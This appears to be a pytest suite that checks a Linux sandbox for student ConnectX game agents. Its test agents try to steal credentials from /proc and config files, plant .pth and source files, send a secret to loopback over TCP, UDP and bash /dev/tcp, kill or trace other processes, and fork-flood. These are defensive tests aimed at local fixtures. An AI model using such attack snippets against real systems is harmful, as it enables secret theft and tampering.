"""Hostile agents against the sandbox (``outside.sandbox``): each attack a peer's agent could
try, as a ConnectX file or a program, played through the arena's real game loop in real
processes, with the kernel's own Landlock and seccomp.  Each test asserts that the attack is
stopped, checked from outside the agent (the secret nowhere in the record, the file not
written, nothing received, the server's stats unchanged, no process left), and what the record
says.  The legitimate side too: the shipped examples, Kaggle's negamax, numpy, numba and a
program with threads still play.

Run as root (as CI does) the agents get a user id of their own; every attack is also run with
that layer left out (``mode`` ``same-user``: the path of an unprivileged user, where Landlock
and seccomp carry it all), and ``test_the_attacks_fail_for_an_unprivileged_user`` runs this
module again as user ``nobody``.  A layer the kernel lacks skips the tests that need it, and
says which.
"""

from __future__ import annotations

import ctypes
import json
import os
import re
import resource
import socket
import subprocess
import sys
import textwrap
import threading
import time
from collections.abc import Callable
from pathlib import Path

import pytest

from arena.match import play_game
from ecosystems.connectx import observation_of
from engine.games import PlayedGame
from engine.players import RandomPlayer
from localserver.background import LocalCourseServer
from outside import ConnectXPlayer, ProgramPlayer, sandbox, seccomp
from outside.sandbox import Layers, Limits, system_layers
from settings import UsageError
from tests.helpers import gone, new_tag, tagged
from vocabulary import Ending, Sandbox

ROOT = Path(__file__).resolve().parent.parent
PYTHON = sys.executable
SECRET = "nyckel-secret-4711"
IDS = "ab1234cd-s"
LAYERS = system_layers()
AS_ROOT = os.geteuid() == 0

needs_landlock = pytest.mark.skipif(LAYERS.landlock < 6, reason=(
    f"this kernel's Landlock ABI is {LAYERS.landlock}: files need 1, TCP 4, signals 6"))
needs_notify = pytest.mark.skipif(LAYERS.seccomp is not seccomp.Mode.NOTIFY, reason=(
    "this kernel does not hand denied system calls to a listener (seccomp notify, Linux 5.5)"))
pytestmark = [pytest.mark.skipif(not LAYERS.linux, reason="the sandbox's kernel layers are Linux's")]


@pytest.fixture(params=["own-user", "same-user"] if AS_ROOT else ["same-user"])
def mode(request: pytest.FixtureRequest, monkeypatch: pytest.MonkeyPatch) -> str:
    """As root, each attack runs with the agent under a user id of its own, and without that
    layer (an unprivileged user's sandbox)."""
    if request.param == "same-user":
        monkeypatch.setattr(sandbox, "_LAYERS",
                            Layers(LAYERS.linux, LAYERS.landlock, LAYERS.seccomp, False, LAYERS.proc))
    return str(request.param)


@pytest.fixture(autouse=True)
def secrets(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> Path:
    """The course's key and ids in our environment, and a user's home with a config and a
    record holding the secret."""
    home = tmp_path / "home"
    (home / "records").mkdir(parents=True)
    (home / "config.toml").write_text(f'[server]\napi_key = "{SECRET}"\nstil_ids = ["{IDS}"]\n')
    (home / "records" / "games.sqlite3").write_text(SECRET)
    monkeypatch.setenv("EDAP01_API_KEY", SECRET)
    monkeypatch.setenv("EDAP01_STIL_IDS", IDS)
    monkeypatch.setenv("HOME", str(home))
    return home


def connectx(tmp_path: Path, source: str, *, seconds: float = 2.0, name: str = "attack",
             overage: float = 60.0, limits: Limits | None = None) -> ConnectXPlayer:
    """A ConnectX agent file of ``source`` (dedented) in a folder of its own."""
    folder = tmp_path / f"agent-{name}"
    folder.mkdir()
    path = folder / "main.py"
    path.write_text(textwrap.dedent(source))
    return ConnectXPlayer(str(path), seconds=seconds, name=name, game_overage=overage,
                          limits=limits,
                          observe=lambda board, left: observation_of(board, overage=left))


def attack(source: str) -> str:
    """An agent that runs ``body`` (the attack, which fills ``found``) on its first move, then
    raises with what it found: the record must never show a secret."""
    return ("import os, sys, socket, signal, ctypes, resource, time, mmap, subprocess\n"
            "found = []\n"
            "def agent(observation, configuration):\n"
            "    def attempt(what, action):\n"
            "        try:\n"
            "            found.append(f'{what}: {action()!r}'[:300])\n"
            "        except BaseException as exc:\n"
            "            found.append(f'{what}: {type(exc).__name__}: {exc}'[:300])\n"
            + textwrap.indent(textwrap.dedent(source), "    ")
            + "    raise RuntimeError('; '.join(found))\n")


def play(player: ConnectXPlayer | ProgramPlayer) -> PlayedGame:
    """One game, the player first, against random; its process ended after."""
    try:
        return play_game(player, RandomPlayer(__import__("random").Random(1)))
    finally:
        player.close()


def lost_to_the_sandbox(record: PlayedGame, *words: str) -> None:
    assert record.winner == 1, record
    assert record.ending == Ending.SANDBOX.value, record.detail
    for word in words:
        assert word in record.detail, record.detail
    assert SECRET not in record.detail and IDS not in record.detail


# --- secrets --------------------------------------------------------------------------------


def test_the_environment_holds_no_key_or_id(tmp_path: Path, mode: str) -> None:
    record = play(connectx(tmp_path, attack("""
        attempt("env", lambda: {k: v for k, v in os.environ.items() if "EDAP" in k or "nyckel" in v})
        attempt("all", lambda: sorted(os.environ))
    """)))
    assert record.ending == Ending.ERROR.value  # nothing was denied: there was nothing
    assert "env: {}" in record.detail
    assert SECRET not in record.detail and IDS not in record.detail
    assert "EDAP01" not in record.detail


@needs_landlock
def test_the_parents_proc_files_and_memory_are_out_of_reach(tmp_path: Path, mode: str) -> None:
    me = os.getpid()
    record = play(connectx(tmp_path, attack(f"""
        for name in ("environ", "cmdline", "mem", "maps"):
            attempt(name, lambda: open(f"/proc/{me}/" + name, "rb").read(200))
            attempt("ppid " + name, lambda: open(f"/proc/{{os.getppid()}}/" + name, "rb").read(200))
        attempt("proc", lambda: os.listdir("/proc"))
    """)))
    lost_to_the_sandbox(record, "Permission denied")
    assert "environ: b" not in record.detail and "/proc/" in record.detail


@needs_landlock
def test_the_users_config_and_record_cannot_be_read(tmp_path: Path, secrets: Path,
                                                    mode: str) -> None:
    record = play(connectx(tmp_path, attack(f"""
        for path in ({str(secrets / "config.toml")!r}, {str(secrets / "records/games.sqlite3")!r},
                     {str(ROOT / "config.toml")!r}, {str(ROOT / "agent.py")!r}):
            attempt(path, lambda: open(path).read())
        attempt("checkout", lambda: os.listdir({str(ROOT)!r}))
    """)))
    lost_to_the_sandbox(record, "Permission denied")


# --- files ----------------------------------------------------------------------------------


@needs_landlock
def test_nothing_of_ours_can_be_written(tmp_path: Path, secrets: Path, mode: str) -> None:
    import sysconfig

    worker = ROOT / "outside" / "connectx_worker.py"
    before = worker.read_bytes()
    planted = [ROOT / "argparse.py", ROOT / "records" / "planted.txt",
               Path(sysconfig.get_paths()["purelib"]) / "zz-planted.pth", secrets / "planted.txt",
               Path("/tmp") / f"planted-{new_tag()}"]
    try:
        record = play(connectx(tmp_path, attack(f"""
            for path in {[str(path) for path in planted]!r}:
                attempt(path, lambda: open(path, "w").write("print('planted')"))
            attempt("worker", lambda: open({str(worker)!r}, "a").write("# planted"))
            attempt("scratch", lambda: open("mine.txt", "w").write("fine"))
        """)))
        lost_to_the_sandbox(record, "Permission denied", "scratch: 4")  # its own folder is writable
        assert not [path for path in planted if path.exists()]
        assert worker.read_bytes() == before
    finally:  # had the attack worked, the checkout would be put back
        if worker.read_bytes() != before:
            worker.write_bytes(before)
        for path in planted:
            if path.exists():
                path.unlink()


# --- the network ----------------------------------------------------------------------------


@pytest.mark.slow
def test_no_byte_reaches_a_tcp_or_udp_listener_on_loopback(tmp_path: Path, mode: str) -> None:
    tcp = socket.create_server(("127.0.0.1", 0))
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.bind(("127.0.0.1", 0))
    tcp.settimeout(0.5)
    udp.settimeout(0.5)
    try:
        record = play(connectx(tmp_path, attack(f"""
            attempt("tcp", lambda: socket.create_connection(("127.0.0.1", {tcp.getsockname()[1]}),
                                                            timeout=2).sendall(b"{SECRET}"))
            attempt("udp", lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(
                b"{SECRET}", ("127.0.0.1", {udp.getsockname()[1]})))
            attempt("unix", lambda: socket.socket(socket.AF_UNIX).connect("/run/dbus/system_bus_socket"))
        """)))
        with pytest.raises(TimeoutError):
            tcp.accept()
        with pytest.raises(TimeoutError):
            udp.recvfrom(100)
        lost_to_the_sandbox(record, "opening a socket (IPv4, stream)")
    finally:
        tcp.close()
        udp.close()


@pytest.mark.slow
def test_a_program_in_bash_cannot_reach_loopback(tmp_path: Path, mode: str) -> None:
    tcp = socket.create_server(("127.0.0.1", 0))
    tcp.settimeout(0.5)
    script = tmp_path / "engine.sh"
    script.write_text(textwrap.dedent(f"""\
        #!/bin/bash
        read handshake
        echo "{SECRET}" > /dev/tcp/127.0.0.1/{tcp.getsockname()[1]}
        echo "ready bash-attack"
        while read words; do echo 4; done
    """))
    script.chmod(0o755)
    try:
        record = play(ProgramPlayer(str(script), seconds=1.0))
        with pytest.raises(TimeoutError):
            tcp.accept()
    finally:
        tcp.close()
    assert record.ending in ("four", "full", Ending.ILLEGAL.value)  # it played on


@pytest.mark.slow
def test_the_course_account_cannot_be_played_from_inside(
        tmp_path: Path, course_server: Callable[..., LocalCourseServer], mode: str) -> None:
    with course_server(seed=1) as server:
        assert server.service is not None
        url = server.url
        record = play(connectx(tmp_path, attack(f"""
            import urllib.request, urllib.parse
            for _ in range(3):
                form = {{"stil_id": "{IDS}", "move": -1, "api_key": "nyckel"}}
                data = urllib.parse.urlencode(form).encode()
                attempt("new game", lambda: urllib.request.urlopen({url + "move"!r}, data,
                                                                   timeout=2).read())
        """)))
        stats = server.service.stats([IDS], "nyckel")
    lost_to_the_sandbox(record, "socket")
    assert stats["played"] == 0 and stats["lost"] == 0


# --- processes ------------------------------------------------------------------------------


@needs_notify
def test_our_process_can_be_neither_stopped_nor_traced_nor_limited(tmp_path: Path, mode: str) -> None:
    limit = resource.getrlimit(resource.RLIMIT_FSIZE)
    record = play(connectx(tmp_path, attack("""
        parent = os.getppid()
        attempt("stop", lambda: os.kill(parent, signal.SIGSTOP))
        attempt("term", lambda: os.kill(parent, signal.SIGTERM))
        attempt("group", lambda: os.killpg(os.getpgid(parent), signal.SIGTERM))
        attempt("everyone", lambda: os.kill(-1, signal.SIGTERM))
        libc = ctypes.CDLL(None, use_errno=True)
        attempt("ptrace", lambda: (libc.ptrace(16, parent, 0, 0), ctypes.get_errno()))
        attempt("prlimit", lambda: resource.prlimit(parent, resource.RLIMIT_FSIZE, (1, 1)))
    """)))
    lost_to_the_sandbox(record, "SIGSTOP to process", "SIGTERM", "tracing process",
                        "changing the limits of process")
    assert resource.getrlimit(resource.RLIMIT_FSIZE) == limit


@pytest.mark.slow
@needs_notify
def test_killing_the_opponent_fails_and_the_victim_is_not_blamed(tmp_path: Path,
                                                                 mode: str) -> None:
    killer = connectx(tmp_path, attack("""
        me = os.getpid()
        for pid in range(max(2, me - 400), me + 400):
            if pid != me:
                try:
                    os.kill(pid, signal.SIGKILL)
                except OSError:
                    pass
        attempt("done", lambda: "tried")
    """), name="killer")
    engine = ROOT / "tests" / "data" / "outside" / "engine.py"
    victim = ProgramPlayer(f"{PYTHON} {engine}", seconds=2.0, name="victim")
    try:
        record = play_game(victim, killer)  # the victim moves first: it runs when the killer kills
    finally:
        victim.close()
        killer.close()
    assert (record.winner, record.ending) == (0, Ending.SANDBOX.value), record.detail
    assert "SIGKILL to process" in record.detail


def test_daemons_are_killed_at_the_end_of_the_game(tmp_path: Path, mode: str) -> None:
    tag = new_tag()
    player = connectx(tmp_path, f"""
        import os, subprocess, sys
        started = []
        def agent(observation, configuration):
            if not started:
                subprocess.Popen([sys.executable, "-c", "import time; time.sleep(300)", "{tag}"],
                                 start_new_session=True)
                if os.fork() == 0:  # a double fork: the grandchild's parent ends at once
                    os.setsid()
                    if os.fork() == 0:
                        os.execv(sys.executable,
                                 [sys.executable, "-c", "import time; time.sleep(300)", "{tag}"])
                    os._exit(0)
                started.append(True)
            return [c for c in range(7) if observation.board[c] == 0][0]
    """)
    record = play(player)
    assert record.ending in ("four", "full") and len(record.moves) > 2
    assert gone(tagged(tag), 10) and not tagged(tag)


def test_a_fork_flood_is_bounded_and_ended(tmp_path: Path, mode: str) -> None:
    if mode == "same-user" and AS_ROOT:
        pytest.skip("the kernel does not count root's processes: as root the bound is its own user")
    tasks = 24
    player = connectx(tmp_path, attack("""
        import time
        children = 0
        try:
            while children < 500:
                if os.fork() == 0:
                    time.sleep(300)
                    os._exit(0)
                children += 1
        except OSError as exc:
            found.append(f"stopped after {children} children: {exc}")
    """), limits=Limits(cpu_seconds=60, tasks=tasks))
    record = play(player)
    assert record.winner == 1
    stopped = re.search(r"stopped after (\d+) children", record.detail)
    assert stopped, record.detail
    assert int(stopped.group(1)) < tasks
    assert not tagged(player.path)  # every fork (they carry the file's path) is gone


# --- limits ---------------------------------------------------------------------------------


def test_shared_memory_counts_against_the_memory_limit(tmp_path: Path, mode: str) -> None:
    limits = Limits(cpu_seconds=60, memory_bytes=512 * 1024**2)
    record = play(connectx(tmp_path, attack("""
        attempt("shared", lambda: mmap.mmap(-1, 1024 * 1024**2))
        attempt("memfd", lambda: os.memfd_create("more"))
    """), limits=limits))
    lost_to_the_sandbox(record)
    assert "Cannot allocate memory" in record.detail


@pytest.mark.slow
def test_the_memory_of_all_its_processes_is_counted_together(tmp_path: Path, mode: str) -> None:
    limits = Limits(cpu_seconds=60, memory_bytes=300 * 1024**2)
    record = play(connectx(tmp_path, """
        import os, time
        def agent(observation, configuration):
            for _ in range(3):
                if os.fork() == 0:
                    block = bytearray(150 * 1024**2)  # 150 MiB each, touched
                    time.sleep(60)
            time.sleep(30)
            return 3
    """, seconds=10.0, limits=limits))
    lost_to_the_sandbox(record, "more than 300 MiB of memory in all")


def test_its_folder_is_limited_in_all_its_files(tmp_path: Path, mode: str) -> None:
    limits = Limits(cpu_seconds=60, disk_bytes=32 * 1024**2)
    record = play(connectx(tmp_path, """
        import time
        def agent(observation, configuration):
            for number in range(20):
                with open(f"part-{number}", "wb") as out:
                    out.write(b"x" * 4 * 1024**2)
            time.sleep(30)
            return 3
    """, seconds=10.0, limits=limits))
    lost_to_the_sandbox(record, "more than 32 MiB")


@pytest.mark.slow
def test_a_forged_clock_is_charged_all_the_same(tmp_path: Path, mode: str) -> None:
    record = play(connectx(tmp_path, """
        import time
        real_sleep = time.sleep
        time.perf_counter = lambda: 0.0
        time.monotonic = lambda: 0.0
        time.time = lambda: 0.0
        def agent(observation, configuration):
            real_sleep(1.2)
            return 3
    """, seconds=0.2, overage=0.5))
    assert (record.winner, record.ending) == (1, Ending.LATE.value), record.detail
    assert record.forfeit_seconds is not None and record.forfeit_seconds >= 0.7


# --- what it says ---------------------------------------------------------------------------


def test_the_line_names_the_layers_and_what_is_missing() -> None:
    line = LAYERS.line()
    assert line.startswith("sandbox: ") and "env, scratch" in line
    if LAYERS.landlock >= 6:
        assert f"landlock {LAYERS.landlock} (files, tcp, signals)" in line
    old = Layers(True, 3, None, False, True)
    assert old.missing() == ["landlock tcp (Linux 6.7+)", "landlock signals (Linux 6.12+)",
                             old.missing()[2]]
    assert "missing: landlock tcp" in old.line() and "seccomp" in old.missing()[2]
    elsewhere = Layers(False, 0, None, False, False)
    assert elsewhere.applied() == ["env", "scratch", "limits (cpu, files)"]
    assert "Linux only" in elsewhere.line()


def test_strict_refuses_an_agent_when_a_layer_is_missing(tmp_path: Path,
                                                         monkeypatch: pytest.MonkeyPatch) -> None:
    from ecosystems.players import parse_spec

    agent = tmp_path / "main.py"
    agent.write_text("def agent(observation, configuration):\n    return 3\n")
    monkeypatch.setattr(sandbox, "_LAYERS", Layers(True, 5, LAYERS.seccomp, False, True))
    with pytest.raises(UsageError, match=r"--sandbox strict: this system lacks landlock signals"):
        parse_spec(f"connectx:{agent}", seconds=1, sandbox=Sandbox.STRICT)
    assert parse_spec(f"connectx:{agent}", seconds=1).sandbox == Sandbox.AVAILABLE  # type: ignore[union-attr]


@pytest.mark.slow
def test_a_tournament_says_its_layers_and_keeps_them(tmp_path: Path) -> None:
    good = ROOT / "tests" / "data" / "outside" / "connectx" / "good.py"
    done = subprocess.run([PYTHON, str(ROOT / "agent.py"), "tournament", "--players",
                           f"connectx:{good},random", "--games", "2", "--time", "0.2",
                           "--workers", "1", "--seed", "3", "--out", str(tmp_path / "run")],
                          capture_output=True, text=True, timeout=300, check=False)
    assert done.returncode == 0, done.stderr
    assert LAYERS.line() in done.stderr.splitlines()
    results = json.loads((tmp_path / "run" / "results.json").read_text())
    assert results["sandbox"]["applied"] == LAYERS.applied()
    assert LAYERS.line() in (tmp_path / "run" / "summary.md").read_text()


@pytest.mark.slow
def test_a_process_killed_from_outside_stops_the_game_without_a_result(tmp_path: Path) -> None:
    if LAYERS.seccomp is not seccomp.Mode.NOTIFY:
        pytest.skip("without seccomp notify an outside kill cannot be told from its own")
    player = connectx(tmp_path, """
        import time
        def agent(observation, configuration):
            time.sleep(30)
            return 3
    """, seconds=10.0)
    def kill_from_outside() -> None:  # once it is in its first move
        deadline = time.monotonic() + 120
        while player._child is None and time.monotonic() < deadline:
            time.sleep(0.05)
        time.sleep(1.0)
        if player._child is not None:
            os.kill(player._child.pid, 9)

    killer = threading.Thread(target=kill_from_outside, daemon=True)
    killer.start()
    record = play(player)
    killer.join()
    assert record.stopped and record.winner is None and record.points(0) is None
    assert "from outside its sandbox" in record.detail


def test_an_agent_that_kills_itself_is_its_own_crash(tmp_path: Path) -> None:
    record = play(connectx(tmp_path, """
        import os, signal
        def agent(observation, configuration):
            os.kill(os.getpid(), signal.SIGKILL)
    """))
    assert (record.winner, record.ending) == (1, Ending.CRASHED.value), record.detail
    if LAYERS.seccomp is seccomp.Mode.NOTIFY:
        assert "which it sent itself" in record.detail


# --- the legitimate side --------------------------------------------------------------------


def test_the_shipped_examples_still_play(tmp_path: Path, mode: str) -> None:
    example = ConnectXPlayer(str(ROOT / "examples" / "connectx_agent.py"), seconds=1.0,
                             observe=lambda board, left: observation_of(board, overage=left))
    line = ProgramPlayer(f"{PYTHON} {ROOT / 'examples' / 'line_engine.py'}", seconds=1.0)
    for first, second in ((example, line), (line, example)):
        record = play_game(first, second)
        assert record.ending in ("four", "full"), record.detail
    example.close()
    line.close()


@pytest.mark.slow
@pytest.mark.parametrize("name", ["numpy", "numba", "kaggle-negamax", "threads"])
def test_agents_with_their_libraries_still_play(tmp_path: Path, name: str) -> None:
    sources = {
        "numpy": """
            import numpy as np
            def agent(observation, configuration):
                board = np.array(observation.board).reshape(6, 7)
                return int(np.argmin((board != 0).sum(axis=0)))
        """,
        "numba": """
            import numba
            @numba.njit(cache=True)
            def lowest(cells):
                best, count = 0, 99
                for col in range(7):
                    filled = 0
                    for row in range(6):
                        filled += cells[row * 7 + col] != 0
                    if filled < count:
                        best, count = col, filled
                return best
            def agent(observation, configuration):
                import numpy as np
                return int(lowest(np.array(observation.board)))
        """,
        "kaggle-negamax": """
            from kaggle_environments.envs.connectx.connectx import negamax_agent
        """,
    }
    if name == "kaggle-negamax":
        pytest.importorskip("kaggle_environments")
    if name == "threads":
        script = tmp_path / "threaded.py"
        script.write_text(textwrap.dedent("""\
            import sys, threading
            for line in sys.stdin:
                words = line.split()
                if words[0] == "connect4":
                    print("ready threads", flush=True)
                elif words[0] == "position":
                    moves = "" if words[1] == "-" else words[1]
                    counts = [0] * 7
                    def count(c):
                        counts[c] = moves.count(str(c + 1))
                    workers = [threading.Thread(target=count, args=(c,)) for c in range(7)]
                    [w.start() for w in workers]; [w.join() for w in workers]
                    print(min(range(7), key=lambda c: counts[c]) + 1, flush=True)
                elif words[0] == "quit":
                    break
        """))
        player: ConnectXPlayer | ProgramPlayer = ProgramPlayer(f"{PYTHON} {script}", seconds=2.0)
    else:
        player = connectx(tmp_path, sources[name], seconds=5.0)
    record = play(player)
    assert record.ending in ("four", "full"), record.detail


# --- as an unprivileged user ----------------------------------------------------------------


@pytest.mark.slow
def test_the_attacks_fail_for_an_unprivileged_user(tmp_path: Path) -> None:
    """The attacks again, as user ``nobody`` (65534): what a student's own account gets.  The
    interpreter may sit where only root reads (``/root/.pyenv``): the run keeps the one
    privilege of reading past permissions, no other."""
    if not AS_ROOT:
        pytest.skip("already run unprivileged")
    home = tmp_path / "nobody"
    home.mkdir()
    os.chown(home, 65534, 65534)
    env = {**os.environ, "HOME": str(home), "NUMBA_CACHE_DIR": str(home / "numba"),
           "PYTHONDONTWRITEBYTECODE": "1", "TMPDIR": str(home)}
    command = [PYTHON, "-m", "pytest", "-q", "-p", "no:cacheprovider", "-x", str(Path(__file__)),
               "-k", "not unprivileged and not tournament", "--basetemp", str(home / "tmp")]

    def become_nobody() -> None:
        libc = ctypes.CDLL(None, use_errno=True)
        libc.prctl(8, 1, 0, 0, 0)  # PR_SET_KEEPCAPS
        os.setgroups([])
        os.setresgid(65534, 65534, 65534)
        os.setresuid(65534, 65534, 65534)
        header = (ctypes.c_uint32 * 2)(0x20080522, 0)
        data = (ctypes.c_uint32 * 6)(4, 4, 4, 0, 0, 0)  # CAP_DAC_READ_SEARCH only
        libc.syscall(126 if os.uname().machine == "x86_64" else 91, header, data)
        libc.prctl(47, 2, 2, 0, 0)  # PR_CAP_AMBIENT_RAISE CAP_DAC_READ_SEARCH

    done = subprocess.run(command, cwd=ROOT, env=env, preexec_fn=become_nobody,
                          capture_output=True, text=True, timeout=900, check=False)
    assert done.returncode == 0, done.stdout[-3000:] + done.stderr[-2000:]
    assert " passed" in done.stdout

